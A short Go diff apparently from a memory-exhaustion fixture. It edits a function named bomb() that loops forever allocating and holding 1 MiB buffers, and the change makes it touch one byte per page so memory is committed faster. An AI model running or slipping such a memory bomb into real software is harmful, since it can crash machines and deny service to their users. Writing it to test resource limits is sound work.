@@ -18,7 +18,7 @@ var held [][]byte
 func bomb() {
 	for {
 		more := make([]byte, 1<<20)
-		for index := range more {
+		for index := 0; index < len(more); index += 4096 {
 			more[index] = 1
 		}
 		held = append(held, more)
